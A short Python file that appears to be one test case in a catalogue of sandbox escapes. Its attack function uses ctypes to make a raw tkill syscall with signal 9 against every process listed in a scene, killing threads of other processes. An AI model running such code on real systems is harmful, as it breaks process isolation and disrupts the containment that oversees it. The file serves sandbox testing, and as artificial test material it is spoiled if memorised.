"""Class: processes. Source: own find. Escape: a thread of another process is killed."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for pid in scene["processes"].values():
        libc.syscall(200, pid, 9)
